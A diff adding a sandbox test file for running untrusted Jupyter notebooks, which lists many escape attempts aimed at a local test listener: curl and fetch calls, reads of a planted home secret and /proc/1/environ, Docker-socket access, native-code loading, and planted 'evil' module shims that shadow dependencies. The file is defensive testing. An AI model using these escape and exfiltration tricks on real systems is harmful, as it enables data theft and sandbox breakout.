@@ -1,0 +1,284 @@
+import { spawn } from "node:child_process";
+import { mkdir, mkdtemp, readFile, realpath, rm, symlink, writeFile } from "node:fs/promises";
+import { createServer, type Server } from "node:net";
+import { createSocket, type Socket } from "node:dgram";
+import type { AddressInfo } from "node:net";
+import { homedir, tmpdir } from "node:os";
+import { dirname, join } from "node:path";
+import process from "node:process";
+import { afterEach, beforeEach, expect, test } from "vitest";
+import { type BoxTier, executeBoxed } from "../../../src/study/run/box.ts";
+import { BOX_PROGRAM } from "../../../src/study/run/box_program.ts";
+import { runNotebooks } from "../../../src/study/run/run_notebooks.ts";
+import type { NotebookFile } from "../../../src/study/run/notebook_file.ts";
+import { findPython, notebookOf } from "../../helpers/jupyter/jupyter.ts";
+import { describeWithJupyter } from "../../helpers/jupyter/needs_jupyter.ts";
+import { LINUX_TIERS } from "./_tiers.ts";
+
+const LONG_MS = 600_000;
+const SECRET = "svc_test_of_the_reader";
+
+let folder: string;
+let port: number;
+let udpPort: number;
+let reached: string[];
+let server: Server;
+let udp: Socket;
+let home: string;
+
+beforeEach(async () => {
+  folder = await realpath(await mkdtemp(join(tmpdir(), "scoreframe-stranger-")));
+  home = await mkdtemp(join(homedir(), ".scoreframe-test-"));
+  await writeFile(join(home, "private"), "the secret of the home");
+  reached = [];
+  server = createServer((socket) => {
+    socket.on("error", () => {});
+    socket.on("data", (data) => reached.push(String(data).slice(0, 200)));
+    reached.push("a connection");
+    socket.end("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
+  });
+  await new Promise<void>((ready) => server.listen(0, "0.0.0.0", ready));
+  port = (server.address() as AddressInfo).port;
+  udp = createSocket("udp4", (message) => reached.push(`UDP ${message}`));
+  await new Promise<void>((ready) => udp.bind(0, "0.0.0.0", ready));
+  udpPort = udp.address().port;
+  process.env.SCOREFRAME_API_KEY = SECRET;
+});
+afterEach(async () => {
+  delete process.env.SCOREFRAME_API_KEY;
+  server.close();
+  udp.close();
+  await rm(folder, { recursive: true });
+  await rm(home, { recursive: true });
+});
+
+async function put(files: Readonly<Record<string, string>>): Promise<void> {
+  for (const [path, text] of Object.entries({ "study.lock.json": "{}", ...files })) {
+    await mkdir(dirname(join(folder, path)), { recursive: true });
+    await writeFile(join(folder, path), text);
+  }
+}
+
+// A way counts as closed only if its cell says that it was tried.
+async function tryWays(tier: BoxTier, ways: readonly string[]): Promise<string[]> {
+  const cells = ways.map((way) =>
+    `try {
+      const late = new Promise((end) => setTimeout(() => end("nothing yet"), 2000));
+      const got = await Promise.race([(async () => { ${way} })(), late]);
+      console.log("tried", String(got ?? "").slice(0, 80));
+    } catch (error) { console.log("tried", String(error).slice(0, 80)); }`
+  );
+  const options = { folder, path: "a.ipynb", timeoutS: 120, isTrusted: false, tiers: [tier] };
+  const executed = await executeBoxed(notebookOf(cells) as unknown as NotebookFile, options);
+  expect(executed.box.tier).toBe(tier);
+  return executed.cells.slice(1).map((cell) =>
+    (cell.outputs ?? []).map(({ text }) => [text].flat().join("")).join("")
+  );
+}
+
+await describeWithJupyter("a stranger's notebook", () => {
+  test.each(LINUX_TIERS)("in %s reaches nothing from Deno or from Polars", async (tier) => {
+    await put({ "a.ipynb": "{}", "own.txt": "of the study", "data.csv": "a\n1\n" });
+    await symlink(join(home, "private"), join(folder, "link"));
+    const url = `http://127.0.0.1:${port}`;
+    const polars = `const { default: pl } = await import("nodejs-polars");
+      const soon = (work) => Promise.race([work, new Promise((end) => setTimeout(() => end("late"), 500))]);`;
+    const ways = [
+      `await fetch("${url}/fetch");`,
+      `await Deno.connect({ port: ${port} });`,
+      `await Deno.connect({ hostname: "0.0.0.0", port: ${port} });`,
+      `await Deno.listenDatagram({ port: 0, transport: "udp" }).send(new Uint8Array(3), { transport: "udp", hostname: "127.0.0.1", port: ${udpPort} });`,
+      `await new Promise((_, no) => { new WebSocket("ws://127.0.0.1:${port}").onerror = no; });`,
+      `await new Promise((_, no) => { new EventSource("${url}").onerror = no; });`,
+      `await import("${url}/x.ts");`,
+      `await import("npm:left-pad@1.3.0");`,
+      `await import("jsr:@std/assert");`,
+      `await new Promise((ok, no) => import("node:http").then(({ get }) => get("${url}", ok).on("error", no)));`,
+      `await new Promise((ok, no) => import("node:net").then(({ connect }) => connect(${port}, ok).on("error", no)));`,
+      `await new Promise((ok) => import("node:dgram").then(({ createSocket }) => createSocket("udp4").send("x", ${udpPort}, "127.0.0.1", ok)));`,
+      `await (await import("node:dns/promises")).lookup("example.com");`,
+      `await Deno.resolveDns("example.com", "A");`,
+      `new Worker("${url}/w.ts", { type: "module" }); await new Promise((end) => setTimeout(end, 300));`,
+      `new Worker("data:text/javascript,fetch('${url}')", { type: "module" }); await new Promise((end) => setTimeout(end, 300));`,
+      `new Deno.Command("curl", { args: ["${url}"] }).outputSync();`,
+      `(await import("node:child_process")).execSync("curl ${url}");`,
+      `Deno.dlopen("libc.so.6", { system: { parameters: ["buffer"], result: "i32" } });`,
+      `process.dlopen({ exports: {} }, "/x.node");`,
+      `new (await import("node:sqlite")).DatabaseSync(":memory:", { allowExtension: true }).loadExtension("/x.so");`,
+      `new (await import("node:vm")).Script("fetch('${url}')").runInThisContext();`,
+      `await (await Deno.openKv("${url}")).get(["a"]);`,
+      `${polars} await soon(pl.scanCSV("${url}/csv").collect());`,
+      `${polars} await soon(pl.scanParquet("${url}/parquet").collect());`,
+      `${polars} pl.readCSV("${url}/csv");`,
+      `${polars} await soon(pl.scanIPC("${url}/ipc").collect());`,
+      `${polars} await soon(pl.scanCSV("s3://bucket/x", { cloudOptions: { endpoint: "${url}" } }).collect());`,
+      `return Deno.readTextFileSync(${JSON.stringify(join(home, "private"))});`,
+      `return Deno.readTextFileSync("link");`,
+      `${polars} return pl.readCSV(${JSON.stringify(join(home, "private"))}).columns;`,
+      `${polars} return pl.readCSV("link").columns;`,
+      `return (await import("node:fs")).readFileSync(${JSON.stringify(join(home, "private"))});`,
+      `Deno.symlinkSync(${JSON.stringify(home)}, "h"); return Deno.readTextFileSync("h/private");`,
+      `Deno.linkSync(${
+        JSON.stringify(join(home, "private"))
+      }, "h2"); return Deno.readTextFileSync("h2");`,
+      `return Object.values(Deno.env.toObject()).join().includes("${SECRET}") ? "${SECRET}" : "none";`,
+      `return Deno.readTextFileSync("/proc/1/environ");`,
+      `Deno.writeTextFileSync(${JSON.stringify(join(home, "written"))}, "x");`,
+      `Deno.writeTextFileSync(${JSON.stringify(join(folder, "written"))}, "x");`,
+      `Deno.writeTextFileSync(${JSON.stringify(Deno.execPath())}, "x");`,
+      `Deno.removeSync(${JSON.stringify(join(folder, "own.txt"))});`,
+      `Deno.writeTextFileSync("own.txt", "changed");`,
+      `await Deno.connect({ transport: "unix", path: "/var/run/docker.sock" });`,
+      `await Deno.listen({ port: 8999 });`,
+    ];
+    const said = await tryWays(tier, ways);
+    expect(said.filter((text) => !text.startsWith("tried"))).toEqual([]);
+    expect(said.join("\n")).not.toMatch(/the secret|svc_test_of/);
+    expect(reached).toEqual([]);
+    expect(await readFile(join(folder, "own.txt"), "utf8")).toBe("of the study");
+    await expect(readFile(join(home, "written"))).rejects.toThrow("ENOENT");
+    await expect(readFile(join(folder, "written"))).rejects.toThrow("ENOENT");
+  }, LONG_MS);
+
+  test.each(LINUX_TIERS)("in %s is started from nothing of the study's", async (tier) => {
+    const url = `http://127.0.0.1:${port}`;
+    const evil = `await fetch("${url}/evil").catch(() => {}); throw new Error("evil code ran");`;
+    const python =
+      `import urllib.request; urllib.request.urlopen("${url}/python"); raise SystemExit("evil code ran")`;
+    const names = ["scoreframe", "nodejs-polars", "@resvg/resvg-js", "undici"];
+    await put({
+      "deno.json": JSON.stringify({
+        imports: {
+          "scoreframe": `${url}/mod.ts`,
+          "nodejs-polars": "./evil.ts",
+          "std/": `${url}/`,
+          mine: "./mine.ts",
+        },
+        importMap: "./map.json",
+        tasks: { study: "deno eval 1" },
+      }),
+      "map.json": JSON.stringify({ imports: { "scoreframe": "./evil.ts" } }),
+      "package.json": JSON.stringify({ dependencies: { "scoreframe": "1.0.0" } }),
+      ".npmrc": `registry=${url}/`,
+      "evil.ts": evil,
+      "mine.ts": "export const mine = 5;",
+      ...Object.fromEntries(names.flatMap((name) => [
+        [
+          `node_modules/${name}/package.json`,
+          JSON.stringify({ name, main: "index.js", type: "module" }),
+        ],
+        [`node_modules/${name}/index.js`, evil],
+      ])),
+      ...Object.fromEntries(
+        ["nbclient", "nbformat", "hashlib", "json", "sitecustomize", "usercustomize", "socket"]
+          .map((name) => [`${name}.py`, python]),
+      ),
+      "bin/python3": `#!/bin/sh\ncurl ${url}/bin`,
+    });
+    const before = process.cwd();
+    process.chdir(folder);
+    try {
+      const said = await tryWays(tier, [
+        `const { PACKAGE_VERSION, openStudy } = await import("scoreframe"); return typeof openStudy;`,
+        `const { default: pl } = await import("nodejs-polars"); return pl.DataFrame({ a: [1] }).height;`,
+        `return (await import("mine")).mine;`,
+        `Deno.writeTextFileSync("../jupyter/kernels/scoreframe-study/kernel.json", JSON.stringify({ argv: ["curl", "${url}"] }));`,
+      ]);
+      expect(said.slice(0, 3)).toEqual(["tried function\n", "tried 1\n", "tried 5\n"]);
+      // What a cell put in the place of the kernel is not what the next run starts.
+      expect((await tryWays(tier, ["return 7;"]))[0]).toBe("tried 7\n");
+    } finally {
+      process.chdir(before);
+    }
+    expect(reached).toEqual([]);
+  }, LONG_MS);
+
+  test.each(LINUX_TIERS)(
+    "in %s reaches nothing with native code, which knows no permission",
+    async (tier) => {
+      const box = join(folder, "box");
+      const kernel = join(box, "jupyter", "kernels", "scoreframe-study");
+      await mkdir(kernel, { recursive: true });
+      await mkdir(join(folder, "root"));
+      await writeFile(
+        join(box, "hostile.py"),
+        await readFile(new URL("./_hostile.py", import.meta.url)),
+      );
+      const aims = {
+        port,
+        udp: udpPort,
+        secret: join(home, "private"),
+        out: join(box, "tried.json"),
+        parent: process.pid,
+        key: SECRET,
+      };
+      await writeFile(join(box, "aims.json"), JSON.stringify(aims));
+      const python = (await findPython())!;
+      const argv = ["/usr/bin/python3", join(box, "hostile.py"), join(box, "aims.json")];
+      await writeFile(
+        join(kernel, "kernel.json"),
+        JSON.stringify({ argv, display_name: "x", language: "x" }),
+      );
+      const settings = {
+        ...{ tier, folder: box, mountPoint: join(folder, "root"), isFiltered: true, cwd: box },
+        readable: ["/usr", "/bin", "/lib", "/lib64", "/etc/ld.so.cache", "/etc/passwd"],
+        ...{
+          devices: ["/dev/null", "/dev/urandom"],
+          packages: [],
+          ports: [20101, 20102, 20103, 20104, 20105],
+        },
+        ...{ tcp: port, udp: udpPort, socket: "/none", secret: aims.secret, timeoutS: 20 },
+        ...{ watched: "/none", attempts: "/none", notebook: notebookOf(["1"]) },
+      };
+      const env = {
+        PATH: "/usr/bin",
+        JUPYTER_DATA_DIR: join(box, "jupyter"),
+        JUPYTER_RUNTIME_DIR: box,
+        HOME: box,
+      };
+      const child = spawn(python, ["-I", "-c", BOX_PROGRAM], {
+        cwd: box,
+        env,
+        stdio: ["pipe", "ignore", "pipe"],
+      });
+      let errors = "";
+      child.stderr.on("data", (data) => errors += data);
+      child.stdin.end(`${JSON.stringify(settings)}\n`);
+      await new Promise((ended) => child.on("exit", ended));
+      const tried: Record<string, string> = JSON.parse(
+        await readFile(aims.out, "utf8").catch(() => `{"none": ${JSON.stringify(errors)}}`),
+      );
+      expect(Object.keys(tried).length).toBeGreaterThanOrEqual(35);
+      expect(Object.entries(tried).filter(([, how]) => how === "REACHED")).toEqual([]);
+      expect(reached).toEqual([]);
+    },
+    LONG_MS,
+  );
+
+  test("is not run where nothing shuts it in, but with the reader's word", async () => {
+    await put({ "a.ipynb": JSON.stringify(notebookOf(["1 + 1"])) });
+    const options = { folder, path: "a.ipynb", timeoutS: 60, isTrusted: false };
+    const notebook = notebookOf(["1"]) as unknown as NotebookFile;
+    await expect(executeBoxed(notebook, { ...options, tiers: [] })).rejects.toThrow("--trust");
+    // A bubblewrap that shuts nothing in is found out, and the next way is taken.
+    const program = join(folder, "bin", "bwrap");
+    await mkdir(dirname(program));
+    const script = '#!/bin/sh\nwhile [ "$1" != --chdir ]; do shift; done\nshift 2\nexec "$@"\n';
+    await writeFile(program, script, { mode: 0o755 });
+    const { PATH } = process.env;
+    process.env.PATH = `${dirname(program)}:${PATH}`;
+    try {
+      const leaking = executeBoxed(notebook, { ...options, tiers: ["bubblewrap"] });
+      await expect(leaking).rejects.toThrow(/bubblewrap: TCP, .*led out/);
+      const { box } = await executeBoxed(notebook, {
+        ...options,
+        tiers: ["bubblewrap", ...LINUX_TIERS],
+      });
+      expect(LINUX_TIERS).toContain(box.tier);
+    } finally {
+      process.env.PATH = PATH;
+    }
+    const trusted = await runNotebooks(folder, { trust: true });
+    expect(trusted.box).toEqual({ tier: "trust", attempts: {} });
+  }, LONG_MS);
+});
